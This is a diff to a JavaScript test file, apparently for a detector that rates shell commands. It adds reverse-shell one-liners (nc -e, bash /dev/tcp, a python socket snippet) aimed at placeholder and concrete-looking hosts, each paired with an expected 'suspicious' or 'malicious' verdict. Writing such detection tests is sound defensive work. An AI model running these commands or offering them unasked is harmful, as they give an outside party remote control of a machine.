@@ -11,6 +11,8 @@ test.for([
   "nc -e /bin/bash <your-ip> 4444",
   'sc config svc binpath= "C:\\nc.exe -e cmd.exe 10.10.10.10 4444"',
   `python3 -c 'import socket,os;s=socket.socket();s.connect(("YOUR_IP",4444));os.dup2(s.fileno(),0)'`,
+  "bash -i >& /dev/tcp/attacker.com/4444 0>&1",
+  "bash -i >& /dev/tcp/10.10.14.x/4444 0>&1",
 ])("a remote shell to an address that isn't real is an example: %s", (command) => {
   expect(verdict(code(command))).toBe("suspicious");
 });
@@ -20,6 +22,10 @@ test.for([
   "bash -i >& /dev/tcp/45.61.136.7/4444 0>&1 # ATTACKER_IP 10.0.0.1",
   "ATTACKER_IP=45.61.136.7\nbash -i >& /dev/tcp/$ATTACKER_IP/4444 0>&1",
   "nc -e /bin/sh updates.note-tools.dev 4444",
+  "nc -e /bin/sh my-server.top 4444",
+  "nc -e /bin/sh evil.host 4444",
+  "bash -i >& /dev/tcp/10.note-tools.dev/4444 0>&1",
+  "bash -i >& /dev/tcp/$RANDOM.note-tools.dev/4444 0>&1",
 ])("a remote shell to a real address is malicious: %s", (command) => {
   expect(verdict(code(command))).toBe("malicious");
 });
